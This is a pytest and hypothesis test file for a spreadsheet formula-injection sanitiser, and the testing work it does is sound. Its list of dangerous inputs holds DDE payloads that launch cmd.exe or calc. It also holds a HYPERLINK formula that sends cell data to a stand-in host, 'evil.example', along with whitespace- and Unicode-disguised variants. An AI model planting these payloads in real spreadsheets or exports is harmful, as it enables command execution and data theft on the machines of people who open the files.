"""No text becomes a formula in a sheet; whatever is harmless stays as it was."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from huiyin.kernel.cells import is_formula, safe_cell

DANGEROUS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+SUM(A1)",
    "-2+3",
    "@SUM(1,1)",
    '=HYPERLINK("http://evil.example/?"&A1)',
    "\t=1+1",
    "\r=1+1",
    "\n=1",
    "\tplain",
    "  =1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\u202e=1+1",
    "\ufeff=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "﹦1",
    "\u22121+1",
    "\x01=1",
    "cmd|' /C calc'!A0",
    "MSEXCEL|'\\..\\cmd.exe'!A0",
    'DDE("cmd";"/C calc";"x")',
    "%0A=1",
]


@pytest.mark.parametrize("text", DANGEROUS)
def test_a_formula_in_whatever_disguise_becomes_a_text(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "text", ["", "菜场北门雨棚破损", "HY26-110482-B", "12 幢 = 3 楼", "a@b.example", "2026-11-24", "《1》"]
)
def test_an_ordinary_text_stays_as_it_was(text: str) -> None:
    assert safe_cell(text) == text


@pytest.mark.parametrize(("value", "cell"), [(-5, "-5"), (-0.5, "-0.5"), (None, ""), (True, "True")])
def test_a_number_is_no_formula(value: object, cell: str) -> None:
    assert safe_cell(value) == cell


@given(st.text(), st.sampled_from("=+-@＝＋－＠\t\r"), st.text(alphabet=" \t\r\n\u3000\u200b\ufeff", max_size=3))
def test_nothing_gets_through_behind_white_space(rest: str, sign: str, before: str) -> None:
    assert safe_cell(before + sign + rest).startswith("'")


@given(st.text())
def test_what_comes_out_is_safe_and_what_went_in_can_be_read_back(text: str) -> None:
    cell = safe_cell(text)
    assert not is_formula(cell)
    assert (cell[1:] if is_formula(text) else cell) == text
